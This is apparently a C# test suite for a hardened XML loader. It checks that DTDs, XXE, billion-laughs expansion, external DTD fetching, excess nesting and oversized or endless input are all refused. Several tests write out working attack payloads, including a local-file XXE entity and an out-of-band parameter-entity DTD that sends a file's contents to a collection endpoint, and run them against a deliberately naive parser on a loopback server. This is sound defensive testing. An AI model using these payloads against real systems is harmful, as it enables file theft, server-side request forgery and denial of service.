using System.Collections.Concurrent;
using System.Text;
using System.Xml;
using System.Xml.Linq;
using Koans.Testing;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Http;

namespace Koans.Security.Xml;

/// <summary>A temp directory with a secret file in it, deleted afterwards.</summary>
public sealed class TempSecret : IDisposable
{
    public const string Secret = "SECRET-7f3a";

    private readonly string directory = Directory.CreateTempSubdirectory("koans-xml-").FullName;

    public TempSecret() => File.WriteAllText(Path, Secret);

    public string Path => System.IO.Path.Combine(directory, "secret.txt");

    public Uri Uri => new(Path);

    public void Dispose() => Directory.Delete(directory, recursive: true);
}

public class UntrustedXmlTests
{
    private static MemoryStream Bytes(string xml) => new(Encoding.UTF8.GetBytes(xml));

    // The billion laughs (CVE-2003-1564 class), cut down to five levels: 10^5 "lol" = 300,000 characters from < 1 KB.
    private const string Laughs =
        """
        <?xml version="1.0"?>
        <!DOCTYPE lolz [
          <!ENTITY lol "lol">
          <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
          <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
          <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
          <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
          <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
        ]>
        <lolz>&lol5;</lolz>
        """;

    private static string Nested(int depth) =>
        string.Concat(Enumerable.Repeat("<a>", depth)) + string.Concat(Enumerable.Repeat("</a>", depth));

    [Fact]
    public void Load_parses_an_ordinary_document_with_namespaces_CDATA_and_comments()
    {
        const string xml =
            """
            <?xml version="1.0" encoding="utf-8"?>
            <order xmlns="urn:shop" xmlns:p="urn:payment" id="42">
              <!-- a comment -->
              <item sku="A-1">Hammer &amp; nails</item>
              <note><![CDATA[<b>fragile</b>]]></note>
              <p:card last4="4242"/>
            </order>
            """;

        var document = UntrustedXml.Load(Bytes(xml));

        XNamespace shop = "urn:shop", payment = "urn:payment";
        document.Root!.Name.Should().Be(shop + "order");
        document.Root.Attribute("id")!.Value.Should().Be("42");
        document.Root.Element(shop + "item")!.Value.Should().Be("Hammer & nails", "predefined entities like &amp; are not a DTD");
        document.Root.Element(shop + "note")!.Value.Should().Be("<b>fragile</b>");
        document.Root.Element(payment + "card")!.Attribute("last4")!.Value.Should().Be("4242");
    }

    [Fact]
    public void Load_refuses_an_external_entity_that_reads_a_local_file()
    {
        using var secret = new TempSecret();
        var xxe = $"""<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "{secret.Uri}">]><r>&x;</r>""";
        NaiveXml.Load(Bytes(xxe)).Root!.Value.Should().Be(TempSecret.Secret,
            "with DTDs parsed and a URL resolver, the entity pulls the file into the document: XXE");

        var act = () => UntrustedXml.Load(Bytes(xxe));

        act.Should().Throw<XmlException>("a document with a DTD is refused, so no entity is ever declared, let alone resolved");
    }

    [Fact]
    public void Load_refuses_the_billion_laughs()
    {
        Laughs.Length.Should().BeLessThan(1024);
        NaiveXml.Load(Bytes(Laughs)).Root!.Value.Length.Should().Be(300_000,
            "under 1 KB of entities expands to 300,000 characters; nine levels would be 3 GB");

        var act = () => UntrustedXml.Load(Bytes(Laughs));

        act.Should().Throw<XmlException>("entity expansion needs a DTD, and DTDs are refused");
    }

    [Fact]
    public void Load_refuses_internal_entities_that_XDocument_Parse_would_expand()
    {
        XDocument.Parse(Laughs).Root!.Value.Length.Should().Be(300_000,
            "XDocument.Parse and XmlDocument skip external entities in .NET, but still expand internal ones (up to 10 million characters)");

        var act = () => UntrustedXml.Load(Bytes("""<!DOCTYPE r [<!ENTITY name "value">]><r>&name;</r>"""));

        act.Should().Throw<XmlException>("even a harmless-looking internal DTD is refused: the API never needs one");
    }

    [Fact]
    public async Task Load_never_fetches_an_external_DTD()
    {
        var ct = TestContext.Current.CancellationToken;
        await using var server = await LoopbackHttpServer.StartAsync(app =>
            app.MapGet("/evil.dtd", () => Results.Content("<!ENTITY greeting \"hi\">", "application/xml-dtd")), ct);
        var xml = $"""<?xml version="1.0"?><!DOCTYPE r SYSTEM "{server.Url("/evil.dtd")}"><r>&greeting;</r>""";

        NaiveXml.Load(Bytes(xml)).Root!.Value.Should().Be("hi");
        server.RequestCount("/evil.dtd").Should().Be(1,
            "the naive parser fetched the DTD: an attacker chooses where the server connects (SSRF through XML)");

        var act = () => UntrustedXml.Load(Bytes(xml));

        act.Should().Throw<XmlException>();
        server.RequestCount("/evil.dtd").Should().Be(1, "the safe parser made no request at all");
    }

    [Fact]
    public async Task Load_does_not_exfiltrate_a_file_out_of_band_through_parameter_entities()
    {
        var ct = TestContext.Current.CancellationToken;
        using var secret = new TempSecret();
        var stolen = new ConcurrentQueue<string>();
        await using var server = await LoopbackHttpServer.StartAsync(app =>
        {
            app.MapGet("/collect", (HttpRequest request) =>
            {
                stolen.Enqueue(request.Query["d"].ToString());
                return Results.Content("", "application/xml-dtd");
            });
            app.MapGet("/oob.dtd", (HttpRequest request) => Results.Content(
                $"""
                <!ENTITY % file SYSTEM "{secret.Uri}">
                <!ENTITY % all "<!ENTITY &#x25; send SYSTEM '{new Uri(new Uri(request.Scheme + "://" + request.Host), "/collect")}?d=%file;'>">
                %all;
                %send;
                """, "application/xml-dtd"));
        }, ct);
        var xml = $"""<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % dtd SYSTEM "{server.Url("/oob.dtd")}"> %dtd;]><r/>""";

        NaiveXml.Load(Bytes(xml));
        stolen.Should().Equal([TempSecret.Secret],
            "the response is never shown to the attacker, and still the secret left in a URL: out-of-band XXE");

        var act = () => UntrustedXml.Load(Bytes(xml));

        act.Should().Throw<XmlException>();
        server.RequestCount("/oob.dtd").Should().Be(1, "only the naive parser asked for the DTD");
        stolen.Should().HaveCount(1, "nothing more was sent");
    }

    [Fact]
    public void CreateReaderSettings_protects_XmlDocument_too()
    {
        using var secret = new TempSecret();
        var xxe = $"""<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "{secret.Uri}">]><r>&x;</r>""";
        using var reader = XmlReader.Create(Bytes(xxe), UntrustedXml.CreateReaderSettings());

        var act = () => new XmlDocument { XmlResolver = null }.Load(reader);

        act.Should().Throw<XmlException>("the settings, not the consumer, decide whether a DTD is read");
    }

    [Fact]
    public void Load_accepts_the_deepest_nesting_allowed() =>
        UntrustedXml.Load(Bytes(Nested(UntrustedXml.MaxDepth))).Descendants().Count().Should().Be(UntrustedXml.MaxDepth,
            $"{UntrustedXml.MaxDepth} nested elements, the root included, are within the limit");

    [Theory]
    [InlineData(UntrustedXml.MaxDepth + 1)]
    [InlineData(100_000)]
    public void Load_refuses_nesting_deeper_than_the_limit(int depth)
    {
        // Only one level over: the naive parser accepts any depth, and at 100,000 levels takes minutes to build the tree.
        NaiveXml.Load(Bytes(Nested(UntrustedXml.MaxDepth + 1))).Root.Should().NotBeNull("the naive parser has no depth limit");

        var act = () => UntrustedXml.Load(Bytes(Nested(depth)));

        act.Should().Throw<XmlException>(
            "every recursive consumer of the tree (a serializer, a signature check, your own visitor) trusts the depth you accepted");
    }

    [Fact]
    public void Load_refuses_a_document_over_the_size_limit()
    {
        var big = "<r>" + new string('x', UntrustedXml.MaxBytes) + "</r>";

        var act = () => UntrustedXml.Load(Bytes(big));

        act.Should().Throw<XmlException>($"the input is over {UntrustedXml.MaxBytes} bytes");
    }

    [Theory]
    [InlineData("")]
    [InlineData("<a>")]
    [InlineData("<a></b>")]
    [InlineData("<a x='1' x='2'/>")]
    [InlineData("<a>&undefined;</a>")]
    [InlineData("\u0000\u0001\u0002")]
    [InlineData("<?xml version='1.0' encoding='no-such-encoding'?><a/>")]
    public void Load_raises_only_XmlException_for_malformed_input(string xml)
    {
        var act = () => UntrustedXml.Load(Bytes(xml));

        act.Should().ThrowExactly<XmlException>("malformed input is an XmlException, never another exception type");
    }

    [Fact]
    public void Load_accepts_text_inside_the_deepest_nesting_allowed()
    {
        var xml = string.Concat(Enumerable.Repeat("<a>", UntrustedXml.MaxDepth)) + "deep text" + string.Concat(Enumerable.Repeat("</a>", UntrustedXml.MaxDepth));

        UntrustedXml.Load(Bytes(xml)).Descendants().Last().Value.Should().Be("deep text",
            "the limit counts nested elements; the text inside the deepest allowed element is not one more level");
    }

    [Fact]
    public void Load_accepts_a_document_of_exactly_the_size_limit_and_refuses_one_byte_more()
    {
        string Document(int bytes) => "<r>" + new string('x', bytes - "<r></r>".Length) + "</r>";

        UntrustedXml.Load(Bytes(Document(UntrustedXml.MaxBytes))).Root!.Value.Should().HaveLength(UntrustedXml.MaxBytes - 7,
            $"exactly {UntrustedXml.MaxBytes} bytes is within the limit");
        FluentActions.Invoking(() => UntrustedXml.Load(Bytes(Document(UntrustedXml.MaxBytes + 1)))).Should().Throw<XmlException>(
            $"{UntrustedXml.MaxBytes + 1} bytes is one over the limit");
    }

    /// <summary>An upload that never ends: "&lt;r&gt;" and then 'x' for as long as anyone reads, up to a tripwire.</summary>
    private sealed class EndlessUpload : Stream
    {
        public const long Tripwire = 16L * UntrustedXml.MaxBytes;

        public long BytesRead { get; private set; }

        public override int Read(byte[] buffer, int offset, int count)
        {
            if (BytesRead >= Tripwire)
            {
                throw new InvalidOperationException($"read {BytesRead} bytes of an endless upload: the byte limit was never applied while reading");
            }

            for (var i = 0; i < count; i++)
            {
                buffer[offset + i] = (byte)(BytesRead + i < 3 ? "<r>"[(int)(BytesRead + i)] : 'x');
            }

            BytesRead += count;
            return count;
        }

        public override bool CanRead => true;
        public override bool CanSeek => false;
        public override bool CanWrite => false;
        public override long Length => throw new NotSupportedException();
        public override long Position { get => BytesRead; set => throw new NotSupportedException(); }
        public override void Flush() { }
        public override long Seek(long offset, SeekOrigin origin) => throw new NotSupportedException();
        public override void SetLength(long value) => throw new NotSupportedException();
        public override void Write(byte[] buffer, int offset, int count) => throw new NotSupportedException();
    }

    [Fact]
    public void Load_stops_reading_an_endless_upload_soon_after_the_limit()
    {
        var upload = new EndlessUpload();

        FluentActions.Invoking(() => UntrustedXml.Load(upload)).Should().Throw<XmlException>(
            "an upload that never ends is refused as too large, not read into memory until the process dies");
        upload.BytesRead.Should().BeLessThanOrEqualTo(2L * UntrustedXml.MaxBytes,
            $"the limit is applied while reading: stop within a buffer or so of {UntrustedXml.MaxBytes} bytes");
    }

    [Fact]
    public void Load_refuses_null_by_name() =>
        FluentActions.Invoking(() => UntrustedXml.Load(null!)).Should().Throw<ArgumentNullException>().WithParameterName("xml");
}
